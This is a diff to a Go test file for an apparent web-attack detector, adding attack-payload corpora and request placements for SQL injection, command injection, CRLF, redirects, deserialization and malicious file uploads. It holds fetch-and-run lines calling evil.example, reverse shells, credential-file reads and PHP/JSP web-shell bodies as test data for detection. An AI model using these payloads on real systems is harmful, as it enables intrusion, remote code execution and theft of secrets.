@@ -22,7 +22,8 @@ import (
 
 // payloads are realistic attack strings per class.
 var payloads = map[string][]string{
-	"sqli": {"' OR '1'='1", "1' OR 1=1--", "admin'--", "' UNION SELECT username,password FROM users--", "1; DROP TABLE users",
+	"sqli": {"' OR '1'='1", "1' OR 1=1--", "';SELECT * FROM orders limit65--", "1 AND (SELECT 1 FROM pg_sleep(5))--",
+		"1' AND 1=(SELECT COUNT(*) FROM sysobjects)--", "x' || (SELECT version()) || '", "1;WAITFOR DELAY '0:0:5'", "admin'--", "' UNION SELECT username,password FROM users--", "1; DROP TABLE users",
 		"1' AND SLEEP(5)--", "1 AND 1=CONVERT(int,@@version)", "' OR 1=1#", "') OR ('a'='a", "1' WAITFOR DELAY '0:0:5'--",
 		"1 UNION ALL SELECT NULL,NULL,NULL--", "x' AND extractvalue(1,concat(0x7e,version()))--", "1' ORDER BY 3--",
 		"-1 UNION SELECT 1,2,3", "'; EXEC xp_cmdshell('dir')--", "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0--"},
@@ -33,7 +34,8 @@ var payloads = map[string][]string{
 	"path_traversal": {"../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//....//etc/passwd", "/etc/passwd",
 		"../../../../proc/self/environ", "../../WEB-INF/web.xml", "..;/..;/..;/etc/shadow", "..%c0%af..%c0%af..%c0%afetc/passwd",
 		"%2e%2e/%2e%2e/%2e%2e/etc/hosts", "../../../.ssh/id_rsa"},
-	"cmd_injection": {"; cat /etc/passwd", "| id", "`whoami`", "$(curl http://evil.example/x.sh | sh)", "&& uname -a",
+	"cmd_injection": {"; cat /etc/passwd", "| id", "127.0.0.1 && whoami", "x;c$@at /e??/p?sswd", "$(printf 'id')",
+		"& type C:\\Windows\\win.ini", "; powershell -Command \"Invoke-WebRequest http://evil.example/a.ps1\"", "--output=/tmp/x; curl evil.example|sh", "`whoami`", "$(curl http://evil.example/x.sh | sh)", "&& uname -a",
 		"; wget http://evil.example/a -O /tmp/a", "|| ping -c 3 10.0.0.1", "; sleep 10", "\nid", "& powershell -enc AAAA",
 		"; nc -e /bin/sh 10.0.0.1 4444", "$(whoami)", "| bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
 	"ssrf": {"http://169.254.169.254/latest/meta-data/", "http://localhost:8080/admin", "http://127.0.0.1/", "http://2130706433/",
@@ -44,6 +46,19 @@ var payloads = map[string][]string{
 		"${jndi:dns://evil.example}", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://evil.example/a}", "${j${upper:n}di:ldaps://evil.example/a}"},
 	"ssti": {"{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
 		"${T(java.lang.Runtime).getRuntime().exec('id')}", "{{request.application.__globals__}}", "*{7*7}"},
+	"crlf_injection": {"en\r\nSet-Cookie: sid=attacker", "x\r\nLocation: https://evil.example/", "abc\r\n\r\n<html>injected</html>",
+		"admin\n2024-05-01 12:00:00 INFO User admin logged in successfully", "ok\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html",
+		"fr\nX-Forwarded-For: 127.0.0.1", "guest\r\n[2024-05-01T12:00:00Z] ERROR payment refunded to attacker"},
+	"open_redirect": {"//evil.example/", "https://evil.example/login", "/\\evil.example", "\\\\evil.example", "https://shop.example@evil.example/",
+		"//evil.example/%2e%2e", "/%09/evil.example", "https:/\\evil.example"},
+	"xpath_ldap_injection": {"*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*", "admin)(|(password=*)", "' or name()='admin",
+		"') or count(/*)=1 or ('", "x' or string-length(name(/*[1]))>0 or 'a'='b"},
+	"deserialization": {"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAAeA==",
+		`O:8:"stdClass":1:{s:4:"test";s:4:"evil";}`, `a:2:{i:0;O:4:"Evil":0:{}i:1;s:1:"x";}`,
+		`{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a","autoCommit":true}`,
+		`{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}`,
+		`!!python/object/apply:os.system ["id"]`, `_$$ND_FUNC$$_function(){require('child_process').exec('id')}()`,
+		"gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="},
 }
 
 // benign values that look like attacks to a careless matcher.
@@ -59,8 +74,12 @@ var lookAlikes = []string{
 	"http://localhost.example.com/", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36", "https://internal-docs.example.com/",
 }
 
+// newTestState is the fast engine alone (the deep check off): what most
+// tests and benchmarks measure.
 func newTestState(t testing.TB) *State {
-	st, err := NewState(NewConfig(), zerolog.Nop())
+	cfg := NewConfig()
+	cfg.DeepCheck.Enabled = false
+	st, err := NewState(cfg, zerolog.Nop())
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -83,26 +102,46 @@ func mk(method, path, query string, headers []http1.Header, body, ct string) *re
 		Exchange: http1.Exchange{Request: req, Response: &http1.Response{Status: 200, Start: at0, End: at0}}}
 }
 
-// placements put a payload where attackers put it, in several encodings.
+// placements put a payload where attackers put it, in several encodings:
+// query (plain, double-encoded, mixed case), JSON (flat, nested, GraphQL
+// variables), form, multipart, a custom header, a cookie.
 func placements(class, p string, r *rand.Rand) []*reassembly.Transaction {
 	param := "q"
-	if class == "ssrf" {
+	switch class {
+	case "ssrf":
 		param = "callback_url"
-	}
-	if class == "path_traversal" {
+	case "path_traversal":
 		param = "file"
+	case "open_redirect":
+		param = "next"
 	}
 	enc := url.QueryEscape(p)
 	dbl := url.QueryEscape(enc)
 	mixed := mixCase(p, r)
+	if class == "deserialization" || class == "crlf_injection" {
+		mixed = p // case is part of these payloads
+	}
+	multipart := "--b0undary\r\nContent-Disposition: form-data; name=\"" + param + "\"\r\n\r\n" + p + "\r\n--b0undary--\r\n"
 	out := []*reassembly.Transaction{
 		mk("GET", "/v1/items", param+"="+enc, nil, "", ""),
 		mk("GET", "/v1/items", param+"="+dbl, nil, "", ""),
 		mk("GET", "/v1/items", "page=2&"+param+"="+url.QueryEscape(mixed), nil, "", ""),
 		mk("POST", "/v1/items", "", nil, fmt.Sprintf(`{"name":"x","%s":%s}`, param, jsonString(p)), "application/json"),
+		mk("POST", "/v1/items", "", nil, fmt.Sprintf(`{"filter":{"and":[{"%s":%s}]},"page":{"size":10}}`, param, jsonString(p)), "application/json"),
+		mk("POST", "/graphql", "", nil, fmt.Sprintf(`{"query":"query Search($%s: String!) { search(%s: $%s) { id } }","variables":{"%s":%s}}`, param, param, param, param, jsonString(p)), "application/json"),
 		mk("POST", "/v1/items", "", nil, "a=1&"+param+"="+enc, "application/x-www-form-urlencoded"),
-		mk("GET", "/v1/items", "", []http1.Header{{Name: "X-Search", Value: p}}, "", ""),
-		mk("GET", "/v1/items", "", []http1.Header{{Name: "Cookie", Value: "sid=abc; pref=" + enc}}, "", ""),
+		mk("POST", "/v1/items", "", nil, multipart, "multipart/form-data; boundary=b0undary"),
+	}
+	if class != "open_redirect" { // a redirect parameter is a parameter
+		out = append(out, mk("GET", "/v1/items", "", []http1.Header{{Name: "X-Search", Value: strings.NewReplacer("\r", "%0d", "\n", "%0a").Replace(p)}}, "", ""),
+			mk("GET", "/v1/items", "", []http1.Header{{Name: "Cookie", Value: "sid=abc; pref=" + enc}}, "", ""))
+	}
+	if class == "crlf_injection" {
+		// line breaks in a JSON string are text: only the query, form and
+		// header forms are attacks there
+		out = slices.DeleteFunc(out, func(tx *reassembly.Transaction) bool {
+			return strings.Contains(string(tx.Request.Body.Data), "{") && !strings.Contains(p, "HTTP/1.1") && !strings.Contains(p, "Set-Cookie") && !strings.Contains(p, "Location")
+		})
 	}
 	switch class {
 	case "log4shell":
@@ -114,6 +153,14 @@ func placements(class, p string, r *rand.Rand) []*reassembly.Transaction {
 		out = append(out, mk("POST", "/v1/items", "", nil, fmt.Sprintf(`{"bio":%s}`, jsonUnicode(p)), "application/json"))
 	}
 	return out
+}
+
+const uploadCT = "multipart/form-data; boundary=upl0ad"
+
+// upload is a multipart body with one file.
+func upload(name, ctype, content string) string {
+	return "--upl0ad\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nmy file\r\n--upl0ad\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" +
+		name + "\"\r\nContent-Type: " + ctype + "\r\n\r\n" + content + "\r\n--upl0ad--\r\n"
 }
 
 func mixCase(s string, r *rand.Rand) string {
@@ -205,6 +252,20 @@ func TestCorpus(t *testing.T) {
 		{"request_smuggling", mk("POST", "/v1/x", "", []http1.Header{{Name: "Content-Length", Value: "4"}, {Name: "Transfer-Encoding", Value: "chunked"}}, "", "")},
 		{"request_smuggling", mk("POST", "/v1/x", "", []http1.Header{{Name: "Transfer-Encoding", Value: "chunked, identity"}}, "", "")},
 		{"request_smuggling", mk("POST", "/v1/x", "", []http1.Header{{Name: "Content-Length", Value: "4"}, {Name: "Content-Length", Value: "40"}}, "", "")},
+		{"file_upload", mk("POST", "/v1/avatar", "", nil, upload("shell.php", "image/png", "<?php system($_GET['c']); ?>"), uploadCT)},
+		{"file_upload", mk("POST", "/v1/avatar", "", nil, upload("photo.php.jpg", "image/jpeg", "\xff\xd8\xff\xe0"), uploadCT)},
+		{"file_upload", mk("POST", "/v1/avatar", "", nil, upload("shell.jsp ", "image/png", "x"), uploadCT)},
+		{"file_upload", mk("POST", "/v1/avatar", "", nil, upload("x.asp;.jpg", "image/jpeg", "x"), uploadCT)},
+		{"file_upload", mk("POST", "/v1/docs", "", nil, upload(".htaccess", "text/plain", "AddType application/x-httpd-php .png"), uploadCT)},
+		{"file_upload", mk("POST", "/v1/avatar", "", nil, upload("avatar.png", "image/png", "GIF89a<?php eval($_POST[1]); ?>"), uploadCT)},
+		{"file_upload", mk("POST", "/v1/docs", "", nil, upload("report.pdf", "application/pdf", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"), uploadCT)},
+		{"file_upload", mk("PUT", "/v1/files", "", []http1.Header{{Name: "X-File-Name", Value: "cmd.aspx"}}, "", "")},
+		{"path_traversal", mk("POST", "/v1/avatar", "", nil, upload("../../../var/www/html/x.png", "image/png", "x"), uploadCT)},
+		{"evasion", func() *reassembly.Transaction {
+			tx := mk("GET", "/v1/items", "q=1", []http1.Header{{Name: "X-Pad", Value: strings.Repeat("A", 70000)}}, "", "")
+			tx.Flags |= http1.FlagHeadersTruncated
+			return tx
+		}()},
 	} {
 		var col collector
 		w.agg = newWorker(st).agg
